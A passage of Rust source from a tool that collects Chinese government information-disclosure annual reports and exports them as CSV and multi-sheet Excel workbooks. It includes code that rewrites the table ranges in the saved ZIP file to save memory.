        let by_format = self.own_by_format();
        for e in &self.entries {
            let row = self.row_of(e, &maps);
            let own = &by_format[e.report.format.as_str()];
            let values = row.iter().zip(own).map(|(v, &own)| match v {
                Some(n) => n.to_string(),
                None if own => String::new(),
                None => NOT_IN_FORMAT.to_string(),
            });
            w.record(Self::lead_values(e).into_iter().chain(values))?;
        }
        w.finish().map(drop)
    }

    /// The long table as CSV (as [`Collection::wide_csv`]): one line per report cell.
    pub fn long_csv(&self) -> String {
        let mut out = Vec::new();
        // Writing to memory cannot fail.
        let _ = self.write_long_csv(&mut out, csv::Encoding::Utf8);
        String::from_utf8(out).unwrap_or_default()
    }

    /// [`Collection::long_csv`] written line by line to `out` in `encoding`: a collection of
    /// thousands of reports (millions of lines) never holds its long CSV in memory.
    ///
    /// # Errors
    /// The error of `out`.
    pub fn write_long_csv(
        &self,
        out: impl std::io::Write,
        encoding: csv::Encoding,
    ) -> std::io::Result<()> {
        let mut w = csv::Writer::new(out, encoding)?;
        w.record(LONG.iter().map(|(k, _, _)| *k))?;
        for e in &self.entries {
            for (c, v) in e.cells.iter() {
                w.record(long_fields(e, c, v))?;
            }
        }
        w.finish().map(drop)
    }

    /// The workbook: `汇总` (wide, with a live totals row), `长表`, `校验`, `未读入`. A sheet
    /// longer than Excel's 1,048,576 rows continues on `长表2`, `长表3`, … (likewise `校验2`,
    /// `未读入2`), each an Excel table with its own header row, so nothing is cut.
    ///
    /// # Errors
    /// [`ExportError::Writer`] when the workbook cannot be built.
    pub fn xlsx(&self) -> Result<Vec<u8>, ExportError> {
        self.write_xlsx(SHEET_ROWS).map_err(writer_error)
    }

    /// [`Collection::xlsx`] written to `out` (an output being staged, see
    /// [`files::OutputSet::stage_seekable`]): the same bytes, never held whole in memory.
    ///
    /// # Errors
    /// [`ExportError::Writer`] when the workbook cannot be built or written.
    pub fn write_xlsx_to(&self, out: &mut dyn Staging) -> Result<(), ExportError> {
        let s = Styles::new();
        let mut wb = self.workbook().map_err(writer_error)?;
        let mut ranges = Vec::new();
        write_long(&self.entries, &mut wb, SHEET_ROWS, Some(&mut ranges)).map_err(writer_error)?;
        self.write_rest(&mut wb, &s, SHEET_ROWS)
            .map_err(writer_error)?;
        save_to(wb, &ranges, out).map_err(writer_error)
    }

    fn workbook(&self) -> Result<Workbook, XlsxError> {
        let mut wb = Workbook::new();
        wb.set_zip_compression_level(1);
        let title = format!("政府信息公开工作年度报告汇总（{} 份）", self.entries.len());
        wb.set_properties(&xlsx::properties(
            &title,
            "nianbao",
            "报表汇总",
            self.date(),
        )?);
        // Low memory: its rows are written top to bottom (see [`Collection::write_rest`]),
        // each flushed to a temporary file once the next begins.
        wb.add_worksheet_with_low_memory()?.set_name("汇总")?;
        Ok(wb)
    }

    fn write_xlsx(&self, rows_per_sheet: u32) -> Result<Vec<u8>, XlsxError> {
        self.write_xlsx_ranged(rows_per_sheet, true)
    }

    /// [`Collection::write_xlsx`]; `defer`: the long table's range set after saving (see
    /// [`Split::write_ranged`]), the same bytes with less memory.
    fn write_xlsx_ranged(&self, rows_per_sheet: u32, defer: bool) -> Result<Vec<u8>, XlsxError> {
        let s = Styles::new();
        let mut wb = self.workbook()?;
        let mut ranges = Vec::new();
        let deferred = defer.then_some(&mut ranges);
        write_long(&self.entries, &mut wb, rows_per_sheet, deferred)?;
        self.write_rest(&mut wb, &s, rows_per_sheet)?;
        save(wb, &ranges)
    }

    fn validate_and_write(&mut self, rows_per_sheet: u32) -> Result<Vec<u8>, XlsxError> {
        use std::sync::atomic::{AtomicUsize, Ordering};
        use std::sync::OnceLock;
        let s = Styles::new();
        let mut wb = self.workbook()?;
        let n = self.entries.len();
        let found: Vec<OnceLock<Vec<Finding>>> = (0..n).map(|_| OnceLock::new()).collect();
        let mut ranges = Vec::new();
        let next = AtomicUsize::new(0);
        let entries = &self.entries;
        let lints = &self.lints;
        let work = || loop {
            let i = next.fetch_add(1, Ordering::Relaxed);
            if i >= n {
                break;
            }
            let mut f = entries[i].findings.clone();
            f.extend(validate::validate(&entries[i].report, None));
            let _ = found[i].set(lints.apply(f));
        };
        std::thread::scope(|sc| -> Result<(), XlsxError> {
            for _ in 1..threads() {
                sc.spawn(work);
            }
            write_long(entries, &mut wb, rows_per_sheet, Some(&mut ranges))?;
            work();
            Ok(())
        })?;
        for (e, f) in self.entries.iter_mut().zip(found) {
            e.findings = f.into_inner().unwrap_or_default();
        }
        self.write_rest(&mut wb, &s, rows_per_sheet)?;
        save(wb, &ranges)
    }

    fn write_rest(
        &self,
        wb: &mut Workbook,
        s: &Styles,
        rows_per_sheet: u32,
    ) -> Result<(), XlsxError> {
        // 校验.
        let headers = [
            ("file", "文件", 28.0),
            ("agency", "机关", 28.0),
            ("year", "年度", 8.0),
            ("rule", "规则", 8.0),
            ("severity", "级别", 9.0),
            ("path", "路径", 36.0),
            ("cell", "单元格", 36.0),
            ("expected", "应为", 10.0),
            ("actual", "实为", 10.0),
            ("message", "说明", 70.0),
        ];
        let findings = self
            .entries
            .iter()
            .flat_map(|e| e.findings.iter().map(move |f| (e, f)));
        let sheet = Split {
            name: "校验",
            table: "collected_findings",
            headers: &headers,
            rows_per_sheet,
            wide: true,
        };
        let total = self.entries.iter().map(|e| e.findings.len()).sum();
        sheet.write(wb, total, findings, |ws, r, (e, f)| {
            let vals = [
                e.file.as_str(),
                e.report.agency.as_str(),
                "",
                f.rule.as_str(),
                match f.severity {
                    Severity::Error => "error",
                    Severity::Warning => "warning",
                    Severity::Info => "info",
                },
                f.path.as_str(),
                f.cell.as_str(),
                f.expected.as_deref().unwrap_or(""),
                f.actual.as_deref().unwrap_or(""),
                f.message.as_str(),
            ];
            for (i, v) in vals.iter().enumerate() {
                if i == 2 {
                    ws.write_number(r, 2, e.report.year as f64)?;
                } else if i == 7 || i == 8 {
                    xlsx::write_value(ws, r, i as u16, Some(v))?;
                } else {
                    ws.write_string(r, i as u16, *v)?;
                }
            }
            Ok(())
        })?;
        self.review_sheet(wb, s)?;
        self.duplicates_sheet(wb, rows_per_sheet)?;
        if let Some(check) = &self.roster {
            roster_sheet(wb, check, rows_per_sheet)?;
        }
        // 未读入.
        let headers = [("file", "文件", 40.0), ("error", "错误", 100.0)];
        let sheet = Split {
            name: "未读入",
            table: "skipped_files",
            headers: &headers,
            rows_per_sheet,
            wide: false,
        };
        sheet.write(wb, self.skipped.len(), self.skipped.iter(), |ws, r, sk| {
            ws.write_string(r, 0, &sk.file)?;
            ws.write_string(r, 1, &sk.error)?;
            Ok(())
        })?;
        // 汇总 last: its strings join the shared string table after the other sheets' (as
        // when it was held in memory and written on saving), so the bytes are unchanged.
        self.summary_sheet(wb, s)
    }

    /// `汇总`, the first sheet: one row per report, one column per statutory cell, the totals
    /// and a note below.
    fn summary_sheet(&self, wb: &mut Workbook, s: &Styles) -> Result<(), XlsxError> {
        // 汇总: row 0 Chinese labels, row 1 stable keys, data from row 2, totals after, each
        // row written whole and in order (a low-memory sheet: an earlier row cannot be
        // written once a later one has begun).
        let ws = wb.worksheet_from_index(0)?;
        let lead = Self::LEAD.len() as u16;
        for (i, _) in self.columns.iter().enumerate() {
            ws.set_column_width(lead + i as u16, 14)?;
        }
        ws.set_column_width(0, 28)?;
        ws.set_column_width(1, 28)?;
        ws.set_row_height(0, 80)?;
        for (i, (_, zh)) in Self::LEAD.iter().enumerate() {
            ws.write_string_with_format(0, i as u16, *zh, &s.header)?;
        }
        for (i, c) in self.columns.iter().enumerate() {
            ws.write_string_with_format(0, lead + i as u16, &c.label, &s.header)?;
        }
        for (i, (k, _)) in Self::LEAD.iter().enumerate() {
            ws.write_string_with_format(1, i as u16, *k, &s.note)?;
        }
        for (i, c) in self.columns.iter().enumerate() {
            ws.write_string_with_format(1, lead + i as u16, &c.key, &s.note)?;
        }
        let maps = self.column_maps();
        // Amount columns show every published decimal (24252.311082 as such).
        let mut scales: Vec<Option<u32>> = vec![None; self.columns.len()];
        for e in &self.entries {
            for (i, v) in self.row_of(e, &maps).iter().enumerate() {
                if let Some(v) = v {
                    let d = xlsx::decimals(*v);
                    scales[i] = Some(scales[i].map_or(d, |s| s.max(d)));
                }
            }
        }
        let amount_formats: Vec<Option<rust_xlsxwriter::Format>> = self
            .columns
            .iter()
            .zip(&scales)
            .map(|(c, scale)| {
                (c.value_type == ValueType::Amount).then(|| {
                    let scale = scale.unwrap_or(0);
                    rust_xlsxwriter::Format::new().set_num_format(xlsx::amount_num_format(scale))
                })
            })
            .collect();
        let first = 2u32;
        let by_format = self.own_by_format();
        for (ri, e) in self.entries.iter().enumerate() {
            let row = self.row_of(e, &maps);
            let own = &by_format[e.report.format.as_str()];
            let r = first + ri as u32;
            for (i, v) in Self::lead_values(e).iter().enumerate() {
                match i {
                    2 | 6 | 7 => ws.write_number(r, i as u16, v.parse::<f64>().unwrap_or(0.0))?,
                    _ => ws.write_string(r, i as u16, v)?,
                };
            }
            for (i, v) in row.iter().enumerate() {
                match (v, &amount_formats[i]) {
                    (Some(v), Some(f)) => {
                        ws.write_number_with_format(r, lead + i as u16, number_f64(*v), f)?;
                    }
                    (Some(v), None) => {
                        ws.write_number(r, lead + i as u16, number_f64(*v))?;
                    }
                    (None, _) if own[i] => {}
                    (None, _) => {
                        ws.write_string_with_format(r, lead + i as u16, NOT_IN_FORMAT, &s.note)?;
                    }
                }
            }
        }
        // Totals only within one year and format: one 合计 row (a plain SUM) when every report
        // shares them, else one row per year and format (SUMIFS on the year and format columns).
        let total_row = first + self.entries.len() as u32;
        let last = total_row; // 1-based number of the last data row
        let groups = self.groups();
        let single = groups.len() <= 1;
        for (gi, (year, format)) in groups.iter().enumerate() {
            let r = total_row + gi as u32;
            if single {
                ws.write_string_with_format(r, 0, "合计", &s.header)?;
            } else {
                let label = format!("合计（{year} 年，{format} 格式）");
                ws.write_string_with_format(r, 0, &label, &s.header)?;
                ws.write_number_with_format(r, 2, *year as f64, &s.header)?;
                ws.write_string_with_format(r, 3, format, &s.header)?;
            }
            for (i, t) in self.totals_of(*year, format).iter().enumerate() {
                let col = lead + i as u16;
                let c = col_name(col);
                let text = if single {
                    format!("=SUM({c}{}:{c}{last})", first + 1)
                } else {
                    format!(
                        "=SUMIFS({c}{f}:{c}{last},$C${f}:$C${last},{year},$D${f}:$D${last},\"{format}\")",
                        f = first + 1
                    )
                };
                let f = Formula::new(text).set_result(decimal_text(*t));
                let fmt = if self.columns[i].value_type == ValueType::Amount {
                    &*xlsx::amount_with_decimals(&s.calc_amount, t.scale())
                } else {
                    &s.calc
                };
                ws.write_formula_with_format(r, col, f, fmt)?;
            }
        }
        let note_row = total_row + groups.len().max(1) as u32 + 1;
        let mut note = String::from(
            "说明：合计仅在同一年度、同一格式的报告之间相加；重复报告（同一机关、年度且数字相同）只计一次 (totals only within one year and format; a duplicate report is counted once)",
        );
        let conflicts = self
            .duplicates
            .iter()
            .filter(|d| d.kind == DuplicateKind::Conflict)
            .count();
        if conflicts > 0 {
            note.push_str(&format!(
                "；另有 {conflicts} 份报告与同一机关同一年度的另一份报告数字不同，两份均已计入，见“重复”表 ({conflicts} conflicting reports are both counted: see the 重复 sheet)"
            ));
        }
        ws.write_string_with_format(note_row, 0, &note, &s.note)?;
        ws.set_freeze_panes(first, 2)?;
        if !self.columns.is_empty() {
            ws.autofilter(
                1,
                0,
                total_row.max(2) - 1,
                lead + self.columns.len() as u16 - 1,
            )?;
        }
        // Print: landscape at a readable scale over several pages, the file (合计) and agency
        // columns and both header rows on every page, nothing past the note.
        xlsx::print_setup_wide(
            ws,
            1,
            (0, 1),
            note_row,
            (lead + self.columns.len() as u16).max(lead) - 1,
        )?;
        Ok(())
    }
}

impl Collection {
    /// `考核`: per report (agency and year), the count of findings by severity and by rule,
    /// after the lint levels in force (recorded below the table), for reviewing offices.
    fn review_sheet(&self, wb: &mut Workbook, s: &Styles) -> Result<(), XlsxError> {
        let ws = wb.add_worksheet();
        ws.set_name("考核")?;
        let mut rules: Vec<&str> = self
            .entries
            .iter()
            .flat_map(|e| e.findings.iter().map(|f| f.rule.as_str()))
            .collect();
        rules.sort();
        rules.dedup();
        let mut columns: Vec<(&str, f64)> = vec![
            ("file", 28.0),
            ("agency", 28.0),
            ("year", 8.0),
            ("error", 8.0),
            ("warning", 9.0),
            ("info", 8.0),
        ];
        columns.extend(rules.iter().map(|r| (*r, 8.0)));
        let mut r = 1u32;
        for e in &self.entries {
            let n = |sev| e.findings.iter().filter(|f| f.severity == sev).count() as f64;
            ws.write_string(r, 0, &e.file)?;
            ws.write_string(r, 1, &e.report.agency)?;
            ws.write_number(r, 2, e.report.year as f64)?;
            ws.write_number(r, 3, n(Severity::Error))?;
            ws.write_number(r, 4, n(Severity::Warning))?;
            ws.write_number(r, 5, n(Severity::Info))?;
            for (i, rule) in rules.iter().enumerate() {
                let c = e.findings.iter().filter(|f| f.rule == *rule).count();
                ws.write_number(r, 6 + i as u16, c as f64)?;
            }
            r += 1;
        }
        xlsx::finish_table(ws, &columns, r, "review_counts")?;
        let mut row = r.max(2) + 1;
        ws.write_string_with_format(row, 0, "规则级别 (lint levels)", &s.note)?;
        row += 1;
        let levels = self.lints.describe();
        if levels.levels.is_empty() {
            ws.write_string_with_format(row, 0, "默认 (default)", &s.note)?;
            row += 1;
        }
        for (id, level) in &levels.levels {
            ws.write_string_with_format(row, 0, id, &s.note)?;
            ws.write_string_with_format(row, 1, level.as_str(), &s.note)?;
            row += 1;
        }
        if let Some(config) = &levels.config {
            ws.write_string_with_format(row, 0, "config", &s.note)?;
            ws.write_string_with_format(row, 1, config, &s.note)?;
        }
        Ok(())
    }

    /// `重复`: reports left out as duplicates and reports kept despite a conflict.
    fn duplicates_sheet(&self, wb: &mut Workbook, rows_per_sheet: u32) -> Result<(), XlsxError> {
        let headers = [
            ("kind", "类别", 10.0),
            ("agency", "机关", 28.0),
            ("year", "年度", 8.0),
            ("file", "文件", 36.0),
            ("first_file", "先读入的文件", 36.0),
            ("differing", "不同的单元格", 60.0),
        ];
        let sheet = Split {
            name: "重复",
            table: "duplicate_reports",
            headers: &headers,
            rows_per_sheet,
            wide: false,
        };
        sheet.write(
            wb,
            self.duplicates.len(),
            self.duplicates.iter(),
            |ws, r, d| {
                ws.write_string(r, 0, d.kind.as_str())?;
                ws.write_string(r, 1, &d.agency)?;
                ws.write_number(r, 2, d.year as f64)?;
                ws.write_string(r, 3, &d.file)?;
                ws.write_string(r, 4, &d.first)?;
                ws.write_string(r, 5, d.differing.join(" "))?;
                Ok(())
            },
        )
    }
}

/// `缺报名单`: per year, the roster's agencies without a report (`missing`) and the reports
/// from agencies not on the roster (`not_on_roster`).
fn roster_sheet(
    wb: &mut Workbook,
    check: &RosterCheck,
    rows_per_sheet: u32,
) -> Result<(), XlsxError> {
    let headers = [
        ("year", "年度", 8.0),
        ("status", "情况", 14.0),
        ("agency", "机关", 36.0),
        ("file", "文件", 36.0),
    ];
    let rows = check
        .missing
        .iter()
        .flat_map(|(y, names)| names.iter().map(move |n| (*y, "missing", n.as_str(), "")))
        .chain(
            check
                .unknown
                .iter()
                .map(|(y, a, f)| (*y, "not_on_roster", a.as_str(), f.as_str())),
        );
    let sheet = Split {
        name: "缺报名单",
        table: "roster_check",
        headers: &headers,
        rows_per_sheet,
        wide: false,
    };
    let total = check.missing.iter().map(|(_, n)| n.len()).sum::<usize>() + check.unknown.len();
    sheet.write(wb, total, rows, |ws, r, (y, status, agency, file)| {
        ws.write_number(r, 0, y as f64)?;
        ws.write_string(r, 1, status)?;
        ws.write_string(r, 2, agency)?;
        ws.write_string(r, 3, file)?;
        Ok(())
    })
}

/// Data rows per sheet: Excel's 1,048,576 rows (its fixed limit) less the header row.
const SHEET_ROWS: u32 = 1_048_576 - 1;

fn writer_error(e: XlsxError) -> ExportError {
    ExportError::Writer {
        target: "xlsx",
        message: e.to_string(),
    }
}

/// A sheet that continues on `name2`, `name3`, … when its rows pass the per-sheet limit; each
/// part is an Excel table (`table`, `table2`, …) with the same header row.
struct Split<'a> {
    name: &'a str,
    table: &'a str,
    headers: &'a [(&'a str, &'a str, f64)],
    rows_per_sheet: u32,
    /// Too wide to print legibly one page wide (长表, 校验): printed at a fixed scale over
    /// pages across, the first two columns (file, agency) repeated.
    wide: bool,
}

impl Split<'_> {
    /// Writes `total` rows (what `rows` yields) over as many sheets as needed. Each sheet is a
    /// low-memory worksheet: its table (header row, widths) is set up first and the rows are
    /// then written in order, each flushed to a temporary file once the next begins, so a
    /// collection of thousands of reports never holds its long table in memory.
    fn write<T>(
        &self,
        wb: &mut Workbook,
        total: usize,
        rows: impl Iterator<Item = T>,
        cell: impl FnMut(&mut rust_xlsxwriter::Worksheet, u32, T) -> Result<(), XlsxError>,
    ) -> Result<(), XlsxError> {
        self.write_ranged(wb, total, rows, cell, None)
    }

    /// [`Split::write`], each table declared over its header and first row only and its
    /// real range noted in `ranges` for [`save`] to set: rust_xlsxwriter keeps an entry per
    /// cell of a table's range (an overlap check) until the workbook is saved, 16 bytes and
    /// more per cell, which for the long table of 1,000 reports (3 million cells) was the
    /// largest part of the collection's memory.
    fn write_ranged<T>(
        &self,
        wb: &mut Workbook,
        total: usize,
        rows: impl Iterator<Item = T>,
        mut cell: impl FnMut(&mut rust_xlsxwriter::Worksheet, u32, T) -> Result<(), XlsxError>,
        mut ranges: Option<&mut Vec<TableRange>>,
    ) -> Result<(), XlsxError> {
        let mut rows = rows.take(total);
        let mut left = total;
        let columns: Vec<(&str, f64)> = self.headers.iter().map(|(k, _, w)| (*k, *w)).collect();
        for part in 1u32.. {
            let suffix = if part == 1 {
                String::new()
            } else {
                part.to_string()
            };
            let here = left.min(self.rows_per_sheet as usize);
            let ws = wb.add_worksheet_with_low_memory()?;
            ws.set_name(format!("{}{suffix}", self.name))?;
            let table = format!("{}{suffix}", self.table);
            let end = here as u32 + 1;
            let declared = match ranges.as_deref_mut() {
                Some(ranges) if end > 2 => {
                    let range = |end: u32| {
                        format!("A1:{}{}", col_name(columns.len() as u16 - 1), end.max(2))
                    };
                    ranges.push(TableRange {
                        table: table.clone(),
                        declared: range(2),
                        real: range(end),
                    });
                    2
                }
                _ => end,
            };
            xlsx::finish_table(ws, &columns, declared, &table)?;
            if self.wide {
                xlsx::print::print_setup_long_list(ws, (0, 1))?;
            }
            for r in 1..=here as u32 {
                let Some(item) = rows.next() else { break };
                cell(ws, r, item)?;
            }
            left -= here;
            if left == 0 {
                break;
            }
        }
        Ok(())
    }
}

fn write_long(
    entries: &[Entry],
    wb: &mut Workbook,
    rows_per_sheet: u32,
    ranges: Option<&mut Vec<TableRange>>,
) -> Result<(), XlsxError> {
    let cells = entries
        .iter()
        .flat_map(|e| e.cells.iter().map(move |(c, v)| (e, c, v)));
    let sheet = Split {
        name: "长表",
        table: "collected_data",
        headers: &LONG,
        rows_per_sheet,
        wide: true,
    };
    let total = entries.iter().map(|e| e.cells.len()).sum();
    let write = |ws: &mut rust_xlsxwriter::Worksheet,
                 r: u32,
                 (e, c, value): (&Entry, &CellRecord, Option<Number>)| {
        for (i, v) in long_fields(e, c, value).iter().enumerate() {
            match i {
                LONG_YEAR => {
                    ws.write_number(r, i as u16, e.report.year as f64)?;
                }
                LONG_ROW_ORDER => {
                    ws.write_number(r, i as u16, c.row_order as f64)?;
                }
                LONG_COLUMN_ORDER => {
                    ws.write_number(r, i as u16, c.column_order as f64)?;
                }
                LONG_VALUE => match value {
                    // Every published decimal shown (General would round 24252.311082).
                    Some(v) if xlsx::decimals(v) > 4 => {
                        let f = rust_xlsxwriter::Format::new()
                            .set_num_format(xlsx::amount_num_format(xlsx::decimals(v)));
                        ws.write_number_with_format(r, i as u16, number_f64(v), &f)?;
                    }
                    Some(v) => {
                        ws.write_number(r, i as u16, number_f64(v))?;
                    }
                    None => {}
                },
                _ => {
                    ws.write_string(r, i as u16, v)?;
                }
            }
        }
        Ok(())
    };
    sheet.write_ranged(wb, total, cells, write, ranges)
}

/// A table declared over a smaller range than it has (see [`Split::write_ranged`]).
#[derive(Debug, Clone, PartialEq, Eq)]
struct TableRange {
    /// Table name.
    table: String,
    /// The range given to rust_xlsxwriter (`A1:O2`).
    declared: String,
    /// The range its rows fill (`A1:O200001`).
    real: String,
}

/// Saves the workbook (freeing its worksheets before the ranges are set) and gives each
/// table of `ranges` its real range.
fn save(wb: Workbook, ranges: &[TableRange]) -> Result<Vec<u8>, XlsxError> {
    let mut out = std::io::Cursor::new(Vec::new());
    save_to(wb, ranges, &mut out)?;
    Ok(out.into_inner())
}

/// [`save`] to `out` (a temporary file): the workbook is written through a buffer and never
/// held whole in memory; then only the end of the ZIP (the table parts and the central
/// directory, a few KB) is read back to set the tables' ranges.
fn save_to(
    mut wb: Workbook,
    ranges: &[TableRange],
    out: &mut dyn Staging,
) -> Result<(), XlsxError> {
    use std::io::{Read, SeekFrom, Write};
    let start = out.stream_position()?;
    {
        let mut w = std::io::BufWriter::with_capacity(1 << 16, &mut *out);
        wb.save_to_writer(&mut w)?;
        w.flush()?;
    }
    drop(wb);
    if ranges.is_empty() {
        return Ok(());
    }
    let end = out.seek(SeekFrom::End(0))?;
    let fail = |r: &TableRange, why: String| {
        XlsxError::TableError(format!(
            "表 {} 的范围未能设为 {} (could not set the range of table {}: {why})",
            r.table, r.real, r.table
        ))
    };
    // Where the table parts begin: read the end record and the central directory.
    let tail_from = |out: &mut dyn Staging, from: u64| -> std::io::Result<Vec<u8>> {
        let mut b = Vec::new();
        out.seek(SeekFrom::Start(from))?;
        out.take(end - from).read_to_end(&mut b)?;
        Ok(b)
    };
    let eocd = tail_from(out, end.saturating_sub(22).max(start))?;
    let cd_start = start + u64::from(u32_at(&eocd, 16).map_err(|why| fail(&ranges[0], why))?);
    let cd = tail_from(out, cd_start.min(end))?;
    let base = start + table_parts_offset(&cd).map_err(|why| fail(&ranges[0], why))?;
    let base = base.min(cd_start);
    let mut tail = tail_from(out, base)?;
    let rel = usize::try_from(base - start).map_err(|e| fail(&ranges[0], e.to_string()))?;
    for r in ranges {
        set_table_range(&mut tail, rel, r).map_err(|why| fail(r, why))?;
    }
    out.seek(SeekFrom::Start(base))?;
    out.write_all(&tail)?;
    out.set_len(base + tail.len() as u64)?;
    out.flush()?;
    Ok(())
}

/// The offset of the first table part's local header, from the central directory `cd`
/// (the ZIP's end, from the directory's start).
fn table_parts_offset(cd: &[u8]) -> Result<u64, String> {
    const CENTRAL: u32 = 0x0201_4b50;
    let mut at = 0;
    let mut first = u64::MAX;
    while at + 46 <= cd.len() && u32_at(cd, at)? == CENTRAL {
        let (n, e, c) = (
            u16_at(cd, at + 28)?,
            u16_at(cd, at + 30)?,
            u16_at(cd, at + 32)?,
        );
        let name = cd.get(at + 46..at + 46 + n).ok_or("truncated name")?;
        if name.starts_with(b"xl/tables/table") {
            first = first.min(u64::from(u32_at(cd, at + 42)?));
        }
        at += 46 + n + e + c;
    }
    Ok(first)
}

fn u16_at(b: &[u8], at: usize) -> Result<usize, String> {
    b.get(at..at + 2)
        .map(|x| u16::from_le_bytes([x[0], x[1]]) as usize)
        .ok_or_else(|| format!("truncated at {at}"))
}

fn u32_at(b: &[u8], at: usize) -> Result<u32, String> {
    b.get(at..at + 4)
        .map(|x| u32::from_le_bytes([x[0], x[1], x[2], x[3]]))
        .ok_or_else(|| format!("truncated at {at}"))
}

fn put_u32(b: &mut [u8], at: usize, v: u32) {
    b[at..at + 4].copy_from_slice(&v.to_le_bytes());
}

/// In the saved workbook `zip` (rust_xlsxwriter's: deflated entries, each followed by a data
/// descriptor, no ZIP64), rewrites the part `xl/tables/tableN.xml` of the table named
/// `r.table`: its range `r.declared` becomes `r.real`, compressed as rust_xlsxwriter
/// compresses (flate2, level 1), and the sizes, checksum and offsets after it are moved along,
/// so the workbook is the one a table declared with its real range gives.
/// Sets the range of table `r` in a ZIP of which `zip` holds the end from offset `base` on
/// (the whole ZIP when `base` is 0): the table part must lie in it, and so must the central
/// directory.
fn set_table_range(zip: &mut Vec<u8>, base: usize, r: &TableRange) -> Result<(), String> {
    use std::io::{Read, Write};
    const EOCD: u32 = 0x0605_4b50;
    const CENTRAL: u32 = 0x0201_4b50;
    const LOCAL: u32 = 0x0403_4b50;
    const DESCRIPTOR: u32 = 0x0807_4b50;
    // Offsets below are the ZIP's own; `at(x)` is where offset x is in `zip`.
    let at = |x: usize| -> Result<usize, String> {
        x.checked_sub(base)
            .ok_or_else(|| format!("offset {x} before the part read ({base})"))
    };
    let eocd = base + zip.len().checked_sub(22).ok_or("too short")?;
    if u32_at(zip, at(eocd)?)? != EOCD {
        return Err("no end of central directory (a comment or ZIP64?)".into());
    }
    let count = u16_at(zip, at(eocd + 10)?)?;
    let cd_size = u32_at(zip, at(eocd + 12)?)? as usize;
    let cd_start = u32_at(zip, at(eocd + 16)?)? as usize;
    if cd_start + cd_size != eocd {
        return Err("central directory not where the end record says".into());
    }
    // The central directory: (position of the record, name, offset of the local header).
    let mut records = Vec::with_capacity(count);
    let mut pos = cd_start;
    for _ in 0..count {
        let p = at(pos)?;
        if u32_at(zip, p)? != CENTRAL {
            return Err(format!("no central directory record at {pos}"));
        }
        let (n, e, c) = (
            u16_at(zip, p + 28)?,
            u16_at(zip, p + 30)?,
            u16_at(zip, p + 32)?,
        );
        let name = zip
            .get(p + 46..p + 46 + n)
            .ok_or("truncated name")?
            .to_vec();
        records.push((pos, name, u32_at(zip, p + 42)? as usize));
        pos += 46 + n + e + c;
    }
    let want = format!("name=\"{}\"", r.table);
    for (rec, name, local) in &records {
        if !(name.starts_with(b"xl/tables/table") && name.ends_with(b".xml")) {
            continue;
        }
        let (rec, local) = (at(*rec)?, *local);
        let l = at(local)?;
        if u32_at(zip, l)? != LOCAL || u16_at(zip, rec + 10)? != 8 {
            return Err("a table part is not a deflated local entry".into());
        }
        let start = l + 30 + u16_at(zip, l + 26)? + u16_at(zip, l + 28)?;
        let end = start + u32_at(zip, rec + 20)? as usize;
        let mut xml = String::new();
        flate2::read::DeflateDecoder::new(zip.get(start..end).ok_or("truncated entry")?)
            .read_to_string(&mut xml)
            .map_err(|e| e.to_string())?;
        if !xml.contains(&want) {
            continue;
        }
        let from = format!("ref=\"{}\"", r.declared);
        if !xml.contains(&from) {
            return Err(format!("{from} not in the table part"));
        }
        let xml = xml.replace(&from, &format!("ref=\"{}\"", r.real));
        let mut enc = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::new(1));
        enc.write_all(xml.as_bytes()).map_err(|e| e.to_string())?;
        let data = enc.finish().map_err(|e| e.to_string())?;
        let mut crc = flate2::Crc::new();
        crc.update(xml.as_bytes());
        let (crc, size, packed) = (crc.sum(), xml.len() as u32, data.len() as u32);
        let delta = data.len() as i64 - (end - start) as i64;
        let shift = |x: usize| -> u32 {
            if x > local {
                (x as i64 + delta) as u32
            } else {
                x as u32
            }
        };
        // Central directory first (it moves with the splice): this entry's checksum and
        // sizes, every later entry's offset, then the end record.
        put_u32(zip, rec + 16, crc);
        put_u32(zip, rec + 20, packed);
        put_u32(zip, rec + 24, size);
        for (other, _, off) in &records {
            put_u32(zip, at(*other)? + 42, shift(*off));
        }
        put_u32(zip, at(eocd + 16)?, shift(cd_start));
        // The local header, when it carries them (rust_xlsxwriter's leave them 0).
        if u32_at(zip, l + 14)? != 0 || u32_at(zip, l + 18)? != 0 {
            put_u32(zip, l + 14, crc);
            put_u32(zip, l + 18, packed);
            put_u32(zip, l + 22, size);
        }
        // The data descriptor after the data, with or without its signature.
        let d = if u32_at(zip, end)? == DESCRIPTOR {
            end + 4
        } else {
            end
        };
        put_u32(zip, d, crc);
        put_u32(zip, d + 4, packed);
        put_u32(zip, d + 8, size);
        zip.splice(start..end, data);
        return Ok(());
    }
    Err("table part not found".into())
}

/// Columns of the long table: key, Chinese, width.
pub const LONG: [(&str, &str, f64); 15] = [
    ("file", "文件", 28.0),
    ("agency", "机关", 28.0),
    ("year", "年度", 8.0),
    ("format", "格式", 8.0),
    ("level", "机关类型", 10.0),
    ("table", "表", 18.0),
    ("table_name", "表名", 8.0),
    ("row_order", "行序", 8.0),
    ("column_order", "列序", 8.0),
    ("row_key", "行键", 30.0),
    ("column_key", "列键", 16.0),
    ("row_label", "行名称", 40.0),
    ("column_label", "列名称", 18.0),
    ("unit", "单位", 8.0),
    ("value", "值", 10.0),
];

/// Positions in [`LONG`] written as numbers.
const LONG_YEAR: usize = 2;
const LONG_ROW_ORDER: usize = 7;
const LONG_COLUMN_ORDER: usize = 8;
const LONG_VALUE: usize = 14;

fn level_key(r: &Report) -> String {
    r.level
        .and_then(|l| serde_json::to_value(l).ok())
        .and_then(|v| v.as_str().map(str::to_string))
        .unwrap_or_default()
}

fn long_fields(e: &Entry, c: &CellRecord, value: Option<Number>) -> [String; 15] {
    [
        e.file.clone(),
        e.report.agency.clone(),
        e.report.year.to_string(),
        e.report.format.clone(),
        level_key(&e.report),
        c.table.clone(),
        c.table_name.clone(),
        c.row_order.to_string(),
        c.column_order.to_string(),
        c.row.clone(),
        c.column.clone(),
        c.row_label.clone(),
        c.column_label.clone(),
        c.unit.clone().unwrap_or_default(),
        value.map(|v| v.to_string()).unwrap_or_default(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_and_union_columns() {
        let c = collect(&[
            PathBuf::from("examples/demo-city-2024.json"),
            PathBuf::from("examples/demo-2019.json"),
            PathBuf::from("examples/does-not-exist.json"),
        ]);
        assert_eq!(c.entries.len(), 2);
        assert_eq!(c.skipped.len(), 1);
        assert!(c
            .columns
            .iter()
            .any(|k| k.key == "proactive.regulations.issued"));
        assert!(c
            .columns
            .iter()
            .any(|k| k.key == "proactive.regulations.produced"));
        let n = c
            .columns
            .iter()
            .filter(|k| k.key == "applications.total_processed.natural_person")
